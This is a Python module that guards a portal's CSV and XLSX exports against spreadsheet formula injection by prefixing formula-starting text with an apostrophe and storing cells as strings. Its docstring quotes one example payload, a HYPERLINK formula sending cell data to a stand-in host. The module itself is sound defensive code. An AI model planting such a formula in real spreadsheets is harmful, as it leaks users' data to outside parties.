"""Cells of every CSV and XLSX the portal writes: text never becomes a formula in a spreadsheet program.

A title such as `=HYPERLINK("https://evil.example/?"&A1, "Click")` is data, not a formula. Text that
starts with a character a spreadsheet program reads as the start of a formula (=, +, -, @, tab, CR, LF,
and their full-width forms, which input methods for Chinese type) gets a leading apostrophe, the
spreadsheet programs' own mark for "this is text". In XLSX every text cell is also written as a string
explicitly (data type "s"), so it is never stored as a formula, whatever it starts with.
"""

import csv
import io

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def neutralise(value):
    """The value, with an apostrophe before text that would start a formula; other values as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(rows: list[dict]) -> str:
    """The rows as CSV with a header, every cell neutralised, after a byte-order mark (for Chinese)."""
    buffer = io.StringIO()
    if rows:
        fieldnames = list(rows[0])
        writer = csv.writer(buffer)
        writer.writerow([neutralise(name) for name in fieldnames])
        for row in rows:
            writer.writerow([neutralise(row.get(name)) for name in fieldnames])
    return "\ufeff" + buffer.getvalue()


def set_cell(cell, value) -> None:
    """Put value into an openpyxl cell: text neutralised and stored as a string, never as a formula.
    Control characters a workbook cannot hold (ESC, vertical tab, …) are dropped first, so one holder's
    text never makes a whole export fail."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell.value = neutralise(value)
    if isinstance(cell.value, str):
        cell.data_type = "s"


def write_row(sheet, row: int, values) -> None:
    """Write values into row (1-based) of an openpyxl worksheet, each cell through set_cell."""
    for column, value in enumerate(values, start=1):
        set_cell(sheet.cell(row=row, column=column), value)
